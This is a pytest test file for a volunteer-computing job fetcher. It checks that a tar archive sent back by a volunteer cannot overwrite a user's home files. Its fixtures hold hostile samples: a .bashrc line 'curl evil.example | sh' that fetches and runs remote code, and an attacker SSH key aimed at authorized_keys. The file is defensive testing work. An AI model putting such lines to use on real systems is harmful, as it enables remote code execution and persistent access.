"""A volunteer sends back a directory with the names of files that the user has at home."""

import pytest

from boinc_gahp.containers.job_files import PACKED
from boinc_gahp.errors import OutputError
from tests.fetch.jobs import ALL, Job, tar

THEIRS = {
    "plots/.bashrc": b"curl evil.example | sh\n",
    "plots/.ssh/authorized_keys": b"ssh-ed25519 evil\n",
    "plots/thesis.tex": b"",
}


@pytest.fixture
def home(tmp_path):
    home = tmp_path / "alice"
    (home / ".ssh").mkdir(parents=True)
    (home / "job").mkdir()
    for name in (".bashrc", ".ssh/authorized_keys", "thesis.tex"):
        (home / name).write_bytes(b"alice's own")
    return home


def own(home):
    return {(home / name).read_bytes() for name in (".bashrc", "thesis.tex")} | {
        (home / ".ssh" / "authorized_keys").read_bytes()
    }


@pytest.mark.parametrize("to", ["{}", "{}/", "..", "../"])
def test_a_directory_that_is_there_before_gets_nothing_but_one_of_the_outputs_name(home, to):
    one = Job({**ALL, PACKED: tar(THEIRS)}, ["plots"], (("plots", to.format(home)),))
    for _ in range(2):
        one.fetch(home / "job", cache=home.parent / "cache")
        assert own(home) == {b"alice's own"}
        assert (home / "plots" / ".bashrc").read_bytes() == THEIRS["plots/.bashrc"]
    assert not (home / "plots" / "plots").exists()


def test_what_has_the_outputs_name_already_is_left_alone(home):
    (home / "plots").mkdir()
    one = Job({**ALL, PACKED: tar(THEIRS)}, ["plots"], (("plots", str(home)),))
    with pytest.raises(OutputError, match="alice/plots' is there already"):
        one.fetch(home / "job")
    assert list((home / "plots").iterdir()) == []
    assert own(home) == {b"alice's own"}


def test_a_directory_in_the_jobs_own_replaces_what_an_earlier_run_left_and_nothing_hidden(home):
    (home / "job" / ".profile").write_bytes(b"alice's own")
    members = {"plots/.profile": b"evil", "plots/a": b"new"}
    (home / "job" / "a").write_bytes(b"old")
    Job({**ALL, PACKED: tar(members)}, ["plots/"]).fetch(home / "job")
    assert (home / "job" / ".profile").read_bytes() == b"alice's own"
    assert (home / "job" / "a").read_bytes() == b"new"
